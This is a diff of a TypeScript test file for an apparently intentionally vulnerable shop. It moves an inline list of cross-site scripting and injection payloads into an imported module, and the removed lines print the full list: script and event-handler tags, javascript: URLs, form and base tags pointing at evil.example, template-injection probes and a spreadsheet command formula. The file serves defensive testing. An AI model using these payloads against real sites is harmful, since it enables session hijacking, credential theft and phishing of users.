@@ -3,89 +3,10 @@ import { beforeAll, describe, expect, test } from 'vitest';
 import { type AttackedShop, buy, type Filled, fillCheckout, type Sale, save } from './attacked-shop.ts';
 import type { Answer } from './attacker.ts';
 import { skeletonOf } from './evidence.ts';
+import { hostileWords as payloads } from './hostile-words.ts';
 import { sampledPaths } from './route-table.ts';
 
 /** Text of a visitor that would become markup or a script: kept and shown again (A16), or thrown back at once (A17). */
-
-const payloads = [
-  [
-    '<script>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-    '<svg onload=alert(1)>',
-    '</script><script>alert(1)</script>',
-  ],
-  [
-    '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>",
-    '" onfocus=alert(1) autofocus="',
-    "' onmouseover='alert(1)",
-  ],
-  [
-    '`onload=alert(1)',
-    '</title><script>alert(1)</script>',
-    '</textarea><script>alert(1)</script>',
-    '</style><script>1</script>',
-  ],
-  [
-    '<!--<script>',
-    '--><script>alert(1)</script>',
-    ']]><script>alert(1)</script>',
-    '<![CDATA[<x>]]>',
-    '<?xml version="1.0"?>',
-  ],
-  [
-    '<iframe src=javascript:alert(1)>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<base href=//evil.example>',
-    '<meta http-equiv=refresh>',
-  ],
-  [
-    '<form action=//evil.example>',
-    '<input name=draftId value=x>',
-    '<object data=x>',
-    '<math><mi xlink:href=javascript:1>',
-  ],
-  [
-    '\\u003cscript\\u003ealert(1)',
-    '\\x3cscript\\x3e',
-    '\\";alert(1);//',
-    "\\';alert(1);//",
-    '\\\\";alert(1)//',
-    '</SCRIPT >',
-  ],
-  [
-    '&lt;script&gt;alert(1)',
-    '&#60;script&#62;',
-    '&amp;lt;b&amp;gt;',
-    '%3Cscript%3E',
-    '＜script＞',
-    '<scr<script>ipt>',
-    '<sCrIpT>',
-  ],
-  [
-    '\u2028alert(1)\u2029',
-    '\u202egnp.exe',
-    '{{7*7}}',
-    '`-alert(1)-`',
-    '<%= 7*7 %>',
-    '#{7*7}',
-    '{__html:"<b>x"}',
-    '["$","script"]',
-  ],
-  [
-    'javascript:alert(1)',
-    'data:text/html,<b>',
-    '=cmd|calc!A1',
-    '<b>bold',
-    '<x',
-    'a>b',
-    '<',
-    '&',
-    '"',
-    "'",
-    '<noscript><p title="</noscript>">',
-  ],
-].flat();
 
 const harmless = 'Plain words';
 const contact = ['firstName', 'lastName', 'company'] as const;
